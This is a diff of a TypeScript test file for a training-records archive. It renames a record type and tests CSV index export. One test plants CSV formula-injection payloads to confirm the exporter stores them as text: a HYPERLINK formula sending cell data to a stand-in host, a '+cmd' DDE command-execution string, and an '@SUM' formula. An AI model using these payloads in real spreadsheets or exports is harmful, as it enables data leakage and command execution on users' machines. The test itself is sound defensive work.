@@ -6,11 +6,11 @@ import {
   toIndexRow,
   toSafeName,
 } from '../../src/archives/domain/archive-layout';
-import type { TrainingDocument } from '../../src/records/data/records';
+import type { TrainingRecord } from '../../src/records/data/records';
 import { buildSampleRecord } from '../support/sample-record';
 
-function buildSignedDocument(overrides: Partial<TrainingDocument> = {}): TrainingDocument {
-  const record = buildSampleRecord();
+function buildSignedDocument(overrides: Partial<TrainingRecord> = {}): TrainingRecord {
+  const content = buildSampleRecord();
   const signer = (first_name: string, last_name: string, role: 'employee' | 'admin' | 'owner') => ({
     id: `${role}-id`,
     role,
@@ -37,12 +37,12 @@ function buildSignedDocument(overrides: Partial<TrainingDocument> = {}): Trainin
     user_agent: 'Mozilla/5.0 "test"; x',
   });
   return {
-    id: record.document_id,
+    id: content.document_id,
     status: 'signed',
-    trainee_id: record.trainee.id,
-    company_id: record.company.id,
-    firm_id: record.firm.id,
-    record,
+    trainee_id: content.trainee.id,
+    company_id: content.company.id,
+    firm_id: content.firm.id,
+    content: content,
     content_hash: 'c'.repeat(64),
     signatures: [
       signature('trainee', signer('Ștefan', 'Țărănescu', 'employee'), '1'),
@@ -79,8 +79,8 @@ describe('names inside the archive', () => {
 
 describe('the archive index', () => {
   it('is UTF-8 with a BOM, separated by ; and parses back to one row per record with its signatures', () => {
-    const documents = [buildSignedDocument(), buildSignedDocument({ id: '01JD7Z8Q0000000000000000AC' })];
-    const csv = formatIndexCsv(documents.map(toIndexRow));
+    const records = [buildSignedDocument(), buildSignedDocument({ id: '01JD7Z8Q0000000000000000AC' })];
+    const csv = formatIndexCsv(records.map(toIndexRow));
 
     expect(csv.charCodeAt(0)).toBe(0xfeff);
     const rows: Record<string, string>[] = parse(csv, { bom: true, delimiter: ';', columns: true });
@@ -96,18 +96,18 @@ describe('the archive index', () => {
     expect(first?.['Cursant: browser']).toBe('Mozilla/5.0 "test"; x');
     expect(first?.['Serviciul SSM: nume']).toBe('Ionescu Andrei');
     expect(first?.['Reprezentantul angajatorului: nume']).toBe('');
-    expect(first?.Fișier).toBe(buildRecordPath(documents[0] as TrainingDocument));
+    expect(first?.Fișier).toBe(buildRecordPath(records[0] as TrainingRecord));
   });
 
   it('opens every cell that starts like a formula as text, whoever wrote it', () => {
     const planted = '=HYPERLINK("http://x.example/?"&A1,"Click")';
-    const document = buildSignedDocument();
-    document.record.trainee.last_name = planted;
-    document.record.course.title = "+cmd|' /C calc'!A0";
-    const trainee = document.signatures[0] as TrainingDocument['signatures'][number];
+    const record = buildSignedDocument();
+    record.content.trainee.last_name = planted;
+    record.content.course.title = "+cmd|' /C calc'!A0";
+    const trainee = record.signatures[0] as TrainingRecord['signatures'][number];
     trainee.user_agent = '@SUM(1+1)';
 
-    const [row]: Record<string, string>[] = parse(formatIndexCsv([toIndexRow(document)]), {
+    const [row]: Record<string, string>[] = parse(formatIndexCsv([toIndexRow(record)]), {
       bom: true,
       delimiter: ';',
       columns: true,
